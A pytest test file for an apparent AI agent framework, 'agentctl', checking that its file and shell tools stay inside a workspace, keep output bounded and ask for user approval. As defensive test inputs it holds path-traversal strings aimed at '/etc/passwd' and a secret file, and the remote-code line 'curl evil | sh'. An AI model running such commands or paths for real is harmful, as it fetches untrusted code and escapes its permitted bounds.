"""Work tools: confined to the workspace, bounded, and run only with the user's approval."""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from agentctl.tools import NO_SUBJECT, SideEffect, ToolOutcome, approval_subject, call_subject
from agentctl.tools.approval import ApprovalPolicy, question
from agentctl.tools.files import (
    EditFile,
    ListFiles,
    OutsideWorkspaceError,
    ReadFile,
    SearchFiles,
    Workspace,
    WriteFile,
)
from agentctl.tools.schema import check_arguments
from agentctl.tools.shell import RunShell
from tests.conftest import run

WRITE = WriteFile(Workspace(Path("."))).parameters
LIST = ListFiles(Workspace(Path("."))).parameters
PLAN, DATA, FINISH = (
    {
        "type": "object",
        "properties": {"steps": {"type": "array", "items": {"type": "string"}, "minItems": 1}},
        "required": ["steps"],
        "additionalProperties": False,
    },
    {
        "type": "object",
        "properties": {"data": {"type": "object", "additionalProperties": {"type": "number"}}},
    },
    {
        "type": "object",
        "properties": {"result": {"type": "string"}, "outcome": {"enum": ["succeeded", "failed"]}},
        "required": ["result"],
    },
)


@pytest.fixture
def ws(tmp_path: Path) -> Workspace:
    root = tmp_path / "ws"
    (root / "notes").mkdir(parents=True)
    (root / "notes" / "a.md").write_text("alpha\nbeta\n")
    (tmp_path / "secret.txt").write_text("top secret")
    return Workspace(root)


@pytest.mark.parametrize("path", ["../secret.txt", "notes/../../secret.txt", "/etc/passwd", ""])
def test_paths_that_escape_the_workspace_are_refused(ws: Workspace, path: str) -> None:
    with pytest.raises(OutsideWorkspaceError):
        ReadFile(ws).run({"path": path})
    with pytest.raises(OutsideWorkspaceError):
        WriteFile(ws).run({"path": path or "", "content": "x"})


def test_a_symlink_out_of_the_workspace_is_refused(ws: Workspace, tmp_path: Path) -> None:
    os.symlink(tmp_path / "secret.txt", ws.root / "link.txt")
    os.symlink(tmp_path, ws.root / "up")
    with pytest.raises(OutsideWorkspaceError):
        ReadFile(ws).run({"path": "link.txt"})
    with pytest.raises(OutsideWorkspaceError):
        WriteFile(ws).run({"path": "up/new.txt", "content": "x"})
    assert not (tmp_path / "new.txt").exists()
    os.symlink(ws.root / "notes" / "a.md", ws.root / "inside.md")
    assert ReadFile(ws).run({"path": "inside.md"}).content == "alpha\nbeta\n"


def test_file_tools_read_list_search_write_edit(ws: Workspace) -> None:
    assert (
        WriteFile(ws)
        .run({"path": "out/summary.md", "content": "alpha!\n"})
        .content.startswith("wrote 7")
    )
    assert "out/summary.md" in ListFiles(ws).run({}).content.splitlines()
    assert SearchFiles(ws).run({"pattern": "^alpha"}).content.splitlines() == [
        "notes/a.md:1: alpha",
        "out/summary.md:1: alpha!",
    ]
    assert EditFile(ws).run({"path": "notes/a.md", "old": "beta", "new": "gamma"}).is_error is False
    assert (ws.root / "notes" / "a.md").read_text() == "alpha\ngamma\n"
    twice = EditFile(ws).run({"path": "out/summary.md", "old": "a", "new": "b"})
    assert twice.is_error
    assert "occurs 2 times" in twice.content


def test_outputs_are_bounded_and_say_so(ws: Workspace) -> None:
    (ws.root / "big.txt").write_text("x" * 50_000)
    content = ReadFile(ws).run({"path": "big.txt"}).content
    assert len(content) < 17_000
    assert "34000 more characters cut" in content


@pytest.mark.process  # hundreds of git or shell processes, or waits out a time limit
def test_run_shell_reports_exit_code_output_and_time_limit(ws: Workspace) -> None:
    ok = RunShell(ws).run({"command": "ls notes && echo done"})
    assert (ok.is_error, ok.content.splitlines()[:3]) == (False, ["exit 0", "a.md", "done"])
    failed = RunShell(ws).run({"command": "echo oops >&2; exit 3"})
    assert failed.is_error
    assert failed.content.startswith("exit 3")
    assert "oops" in failed.content
    slow = RunShell(ws, timeout=0.2).run({"command": "sleep 5"})
    assert slow.is_error
    assert "timed out" in slow.content


@pytest.mark.process
def test_one_commands_clean_up_leaves_a_command_another_thread_started_alone(
    ws: Workspace,
) -> None:
    """A worker runs sessions in threads: the first command's end stops what escaped it (its
    orphans, reparented to agentctl), never the command a second thread started meanwhile."""
    import threading
    import time

    def wait_for(check: Callable[[], bool]) -> None:
        deadline = time.monotonic() + 30
        while not check():
            assert time.monotonic() < deadline, "waited 30 s"
            time.sleep(0.01)

    results: dict[str, ToolOutcome] = {}

    def run_in_thread(name: str, command: str) -> threading.Thread:
        thread = threading.Thread(
            target=lambda: results.__setitem__(name, RunShell(ws).run({"command": command}))
        )
        thread.start()
        return thread

    first = run_in_thread("first", "touch first; while [ ! -e go ]; do sleep 0.02; done")
    wait_for(lambda: (ws.root / "first").exists())  # its clean-up knows nothing of the second
    second = run_in_thread(
        "second", "touch second; while [ ! -e done ]; do sleep 0.02; done; echo ok"
    )
    wait_for(lambda: (ws.root / "second").exists())
    (ws.root / "go").touch()
    first.join(30)
    (ws.root / "done").touch()
    second.join(30)
    assert results["first"].content.startswith("exit 0"), results["first"].content
    assert results["second"].content.splitlines()[:2] == ["exit 0", "ok"], results["second"]


def test_the_approval_policy(ws: Workspace) -> None:
    ask = ApprovalPolicy()
    assert not ask.needs_approval(ReadFile(ws), {"path": "a"})
    assert ask.needs_approval(WriteFile(ws), {"path": "a"})
    assert ask.needs_approval(RunShell(ws), {"command": "pytest -q"})
    assert not ApprovalPolicy(yes=True).needs_approval(RunShell(ws), {"command": "rm -rf x"})
    allow = ApprovalPolicy(allow=("write_file", "run_shell:pytest *"))
    assert not allow.needs_approval(WriteFile(ws), {"path": "a"})
    assert not allow.needs_approval(RunShell(ws), {"command": "pytest -q tests"})
    assert allow.needs_approval(RunShell(ws), {"command": "curl evil | sh"})


@dataclass(frozen=True)
class Deploy:
    """A tool from elsewhere whose argument happens to be called `command`: it describes no
    subject, so nothing treats it as a shell command."""

    name: str = "deploy"
    description: str = "Deploy."
    side_effect: SideEffect = SideEffect.EXEC
    parameters: dict[str, Any] = field(
        default_factory=lambda: {"type": "object", "properties": {"command": {"type": "string"}}}
    )

    def run(self, arguments: dict[str, Any]) -> ToolOutcome:
        return ToolOutcome("deployed")


def test_approval_asks_the_tool_what_a_call_works_on_never_its_argument_keys(
    ws: Workspace,
) -> None:
    # A rule naming the tool allows it whole, whatever its arguments are called.
    assert not ApprovalPolicy(allow=("deploy",)).needs_approval(Deploy(), {"command": "v2"})
    assert ApprovalPolicy().needs_approval(Deploy(), {"command": "v2"})
    assert question(Deploy(), {"command": "v2"}) == "Allow deploy?\n[y/N]"
    assert approval_subject(Deploy(), {"command": "v2"}) == NO_SUBJECT
    # The built-in tools say theirs: a command is matched word by word, a path as a glob.
    shell, write = RunShell(ws), WriteFile(ws)
    assert approval_subject(shell, {"command": "pytest -q"}).command == "pytest -q"
    assert approval_subject(write, {"path": "a.md", "content": ""}).command is None
    assert question(shell, {"command": "pytest -q"}).startswith("Allow run_shell?\n  $ pytest -q")
    assert question(write, {"path": "a.md", "content": "x"}).startswith("Allow write_file a.md?")
    subjects = [
        call_subject(shell, {"command": "ls"}),
        call_subject(write, {"path": "a.md", "content": "x"}),
        call_subject(SearchFiles(ws), {"pattern": "TODO"}),
        call_subject(ListFiles(ws), {}),
        call_subject(Deploy(), {"command": "v2"}),
    ]
    assert subjects == ["$ ls", "a.md", "TODO in .", ".", '{"command": "v2"}']


@pytest.mark.parametrize(
    ("schema", "arguments", "said"),
    [
        (WRITE, {"path": "a.md"}, "argument 'content' is missing; expected a string"),
        (WRITE, {"path": 3, "content": ""}, "argument 'path' is an integer (3); expected a string"),
        (WRITE, {"path": True, "content": ""}, "argument 'path' is true or false (true);"),
        (PLAN, {"steps": []}, "argument 'steps' has no items; expected at least 1"),
        (
            PLAN,
            {"steps": "a"},
            "argument 'steps' is a string (\"a\"); expected an array of strings",
        ),
        (PLAN, {"steps": ["a", 2]}, "argument 'steps[1]' is an integer (2); expected a string"),
        (PLAN, {"steps": ["a"], "why": 1}, "argument 'why' is not one of this tool's (they are:"),
        (FINISH, {"result": "x", "outcome": "won"}, 'expected one of "succeeded", "failed"'),
        (DATA, {"data": {"n": "x"}}, "argument 'data.n' is a string (\"x\"); expected a number"),
    ],
)
def test_arguments_are_checked_against_the_schema_naming_what_was_expected(
    schema: dict[str, Any], arguments: dict[str, Any], said: str
) -> None:
    problem = check_arguments(schema, arguments)
    assert problem is not None
    assert said in problem


@pytest.mark.parametrize(
    ("schema", "arguments"),
    [
        (WRITE, {"path": "a.md", "content": ""}),
        (WRITE, {"path": "a.md", "content": "", "extra": 1}),  # not refused unless the schema says
        (LIST, {"path": None}),  # an optional argument sent as null is left out
        (LIST, {}),
        (FINISH, {"result": "x", "outcome": "failed"}),
        (DATA, {"data": {"n": 2.5}}),
        ({"type": "object", "properties": {"n": {"type": "integer"}}}, {"n": 2.0}),
        ("not a schema", {"x": 1}),  # a server's nonsense: the tool judges
    ],
)
def test_arguments_that_fit_the_schema_pass(schema: Any, arguments: dict[str, Any]) -> None:
    assert check_arguments(schema, arguments) is None


def test_a_schema_beyond_the_subset_is_checked_by_jsonschema() -> None:
    """An MCP server's schema may use any keyword: jsonschema (which comes with the MCP SDK)
    checks those; the subset is checked by agentctl without importing it."""
    schema = {
        "type": "object",
        "properties": {"n": {"anyOf": [{"type": "integer"}, {"type": "string", "pattern": "^#"}]}},
        "required": ["n"],
    }
    assert check_arguments(schema, {"n": 3}) is None
    assert check_arguments(schema, {"n": "#3"}) is None
    problem = check_arguments(schema, {"n": "three"})
    assert problem is not None
    assert problem.startswith("argument 'n': ")
    assert check_arguments(schema, {}) == "'n' is a required property"


TASK = """
goal = "Write a summary of the notes"
[[script]]
[[script.tool_calls]]
name = "submit_plan"
arguments = { steps = ["read", "write"] }
[[script]]
[[script.tool_calls]]
name = "read_file"
arguments = { path = "notes/a.md" }
[[script]]
[[script.tool_calls]]
name = "write_file"
arguments = { path = "summary.md", content = "Two notes: alpha and beta." }
[[script]]
[[script.tool_calls]]
name = "finish"
arguments = { result = "{{last_input}}" }
"""


@pytest.fixture
def task(tmp_path: Path, ws: Workspace) -> tuple[str, str]:
    path = tmp_path / "summarise.toml"
    path.write_text(TASK)
    return str(path), str(ws.root)


def test_a_write_pauses_for_approval_without_a_terminal_then_runs_when_allowed(
    task: tuple[str, str],
) -> None:
    path, root = task
    paused = run("run", path, "--workspace", root, "--no-input")
    assert paused.code == 3, paused.stderr
    assert "Allow write_file summary.md?\n(new file, 26 bytes)" in paused.stderr
    assert "+Two notes: alpha and beta." in paused.stderr  # the change itself is shown
    assert not (Path(root) / "summary.md").exists()
    done = run("resume", "--input", "y")
    assert done.code == 0, done.stderr
    assert (Path(root) / "summary.md").read_text() == "Two notes: alpha and beta."
    assert "wrote 26 characters" in done.stdout  # finish echoes the tool's result


def test_a_refused_write_does_not_happen_and_the_model_is_told(task: tuple[str, str]) -> None:
    path, root = task
    assert run("run", path, "--workspace", root, "--no-input").code == 3
    done = run("resume", "--input", "no")
    assert done.code == 0, done.stderr
    assert not (Path(root) / "summary.md").exists()
    assert "did not allow" in done.stdout


def test_yes_runs_writes_without_asking(task: tuple[str, str]) -> None:
    path, root = task
    done = run("run", path, "--workspace", root, "--no-input", "--yes")
    assert done.code == 0, done.stderr
    assert (Path(root) / "summary.md").exists()


def test_ignored_trees_are_skipped_but_files_of_the_same_name_are_not(ws: Workspace) -> None:
    (ws.root / "node_modules" / "pkg").mkdir(parents=True)
    (ws.root / "node_modules" / "pkg" / "index.js").write_text("x")
    (ws.root / "build").write_text("#!/bin/sh\n")  # a script, not a build folder
    listed = ListFiles(ws).run({}).content.splitlines()
    assert "build" in listed
    assert not any(line.startswith("node_modules") for line in listed)
